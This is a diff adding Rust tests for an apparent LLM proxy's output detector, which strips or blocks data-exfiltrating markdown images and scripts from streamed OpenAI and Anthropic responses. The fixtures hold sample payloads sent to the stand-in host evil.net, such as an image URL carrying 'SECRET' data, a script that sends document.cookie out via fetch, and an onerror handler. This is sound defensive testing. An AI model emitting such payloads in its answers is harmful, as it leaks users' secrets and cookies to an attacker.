@@ -599,3 +599,145 @@ fn an_injection_the_model_echoes_ends_the_stream_when_responses_are_on() {
     ]);
     assert_eq!(run(StreamApi::OpenaiChat, &cfg(true), &benign).0, benign);
 }
+
+fn output_policy(images: &str) -> Rc<Policy> {
+    policy(&format!(
+        r#"{{"schemaVersion":1,"detectors":[{{"type":"output","id":"out","allowHosts":["allowed.com"],"images":"{images}"}}]}}"#
+    ))
+}
+
+#[test]
+fn an_exfiltration_image_split_at_every_byte_is_stripped() {
+    let p = output_policy("strip");
+    let image = "![loading chart](https://evil.net/p.png?q=SECRET%20DATA)";
+    let (pre, post) = ("Here is the summary. ", " Anything else?");
+    let whole = format!("{pre}{image}{post}");
+    for cut in 1..whole.len() {
+        let (a, b) = whole.split_at(cut);
+        let bytes = chat_stream(&[a, b]);
+        let (out, outcome) = run(StreamApi::OpenaiChat, &p, &bytes);
+        let s = String::from_utf8_lossy(&out);
+        assert!(!s.contains("evil"), "cut {cut}: {s}");
+        let (text, error) = client_text(StreamApi::OpenaiChat, &out);
+        assert_eq!(text, format!("{pre}{post}"), "cut {cut}");
+        assert!(!error && outcome.rewritten, "cut {cut}");
+    }
+    // One byte a delta.
+    let deltas: Vec<String> = whole.chars().map(String::from).collect();
+    let refs: Vec<&str> = deltas.iter().map(String::as_str).collect();
+    let (out, _) = run(StreamApi::OpenaiChat, &p, &chat_stream(&refs));
+    assert!(!String::from_utf8_lossy(&out).contains("evil"));
+    assert_eq!(
+        client_text(StreamApi::OpenaiChat, &out).0,
+        format!("{pre}{post}")
+    );
+    // And every split of the SSE bytes gives the same output.
+    let bytes = chat_stream(&["Look: ![a](https://ev", "il.net/x?d=1) ok."]);
+    let whole_out = run(StreamApi::OpenaiChat, &p, &bytes).0;
+    for cut in 0..=bytes.len() {
+        let (a, b) = bytes.split_at(cut);
+        let got = run_chunks(
+            StreamApi::OpenaiChat,
+            &p,
+            Pseudonyms::default(),
+            false,
+            &[a, b],
+        )
+        .0;
+        assert_eq!(got, whole_out, "split at {cut}");
+    }
+}
+
+#[test]
+fn a_script_split_over_chunks_is_stripped() {
+    let p = output_policy("strip");
+    let bytes = chat_stream(&[
+        "Sure.<scr",
+        "ipt>fetch('https://evil.net/?c='+docu",
+        "ment.cookie)</scr",
+        "ipt> Done.",
+    ]);
+    let (out, _) = run(StreamApi::OpenaiChat, &p, &bytes);
+    let s = String::from_utf8_lossy(&out);
+    assert!(!s.contains("evil") && !s.contains("cookie"), "{s}");
+    assert_eq!(client_text(StreamApi::OpenaiChat, &out).0, "Sure. Done.");
+    // Anthropic.
+    let ev = |ty: &str, body: serde_json::Value| format!("event: {ty}\ndata: {body}\n\n");
+    let mut a = ev(
+        "content_block_start",
+        json!({"type":"content_block_start","index":0,"content_block":{"type":"text","text":""}}),
+    );
+    for d in [
+        "ok <img src=x on",
+        "error=alert(1)> and ",
+        "![a](https://evil.net/",
+        "x) end",
+    ] {
+        a += &ev(
+            "content_block_delta",
+            json!({"type":"content_block_delta","index":0,"delta":{"type":"text_delta","text":d}}),
+        );
+    }
+    a += &ev(
+        "content_block_stop",
+        json!({"type":"content_block_stop","index":0}),
+    );
+    a += &ev("message_stop", json!({"type":"message_stop"}));
+    let (out, _) = run(StreamApi::AnthropicMessages, &p, a.as_bytes());
+    let s = String::from_utf8_lossy(&out);
+    assert!(!s.contains("evil") && !s.contains("onerror"), "{s}");
+    assert_eq!(
+        client_text(StreamApi::AnthropicMessages, &out).0,
+        "ok  and  end"
+    );
+}
+
+#[test]
+fn a_blocked_image_ends_the_stream_with_the_apis_error_event() {
+    let p = output_policy("block");
+    let bytes = chat_stream(&["Result: ![x](https://evil", ".net/?q=SECRET) more"]);
+    let (out, outcome) = run(StreamApi::OpenaiChat, &p, &bytes);
+    assert_eq!(outcome.blocked, Some("MARKDOWN_IMAGE"));
+    let s = String::from_utf8_lossy(&out);
+    assert!(!s.contains("evil") && !s.contains("SECRET"), "{s}");
+    assert!(s.contains("content_policy_violation"), "{s}");
+    assert!(client_text(StreamApi::OpenaiChat, &out).1);
+    // Allowed hosts stream through byte for byte.
+    let ok = chat_stream(&["See ![x](https://allowed.com/a", ".png) and <b>bold</b>."]);
+    assert_eq!(run(StreamApi::OpenaiChat, &p, &ok).0, ok);
+}
+
+#[test]
+fn a_json_answer_is_rewritten() {
+    let p = output_policy("strip");
+    let body = json!({"id":"chatcmpl-1","object":"chat.completion","model":"gpt-4o-mini",
+        "choices":[{"index":0,"finish_reason":"stop","message":{"role":"assistant",
+        "content":"Done ![a](https://evil.net/?q=SECRET) and [docs](https://evil.net/d) <script>x()</script>."}}]})
+    .to_string();
+    let scan = match crate::scan::scan_body(
+        &p,
+        crate::api::ApiKind::OpenaiChat,
+        Direction::Response,
+        body.as_bytes(),
+    ) {
+        Ok(s) => s,
+        Err(e) => unreachable!("{e}"),
+    };
+    assert_eq!(scan.action, Action::Redact);
+    let out = String::from_utf8(scan.rewritten.unwrap_or_default()).unwrap_or_default();
+    let v: serde_json::Value = serde_json::from_str(&out).unwrap_or_default();
+    assert_eq!(
+        v["choices"][0]["message"]["content"],
+        "Done  and docs (hxxps://evil[.]net/d) ."
+    );
+    // A user's request is not scanned by it.
+    let req = json!({"model":"m","messages":[{"role":"user","content":"![a](https://evil.net/)"}]})
+        .to_string();
+    let scan = crate::scan::scan_body(
+        &p,
+        crate::api::ApiKind::OpenaiChat,
+        Direction::Request,
+        req.as_bytes(),
+    );
+    assert!(scan.is_ok_and(|s| s.findings.is_empty()));
+}
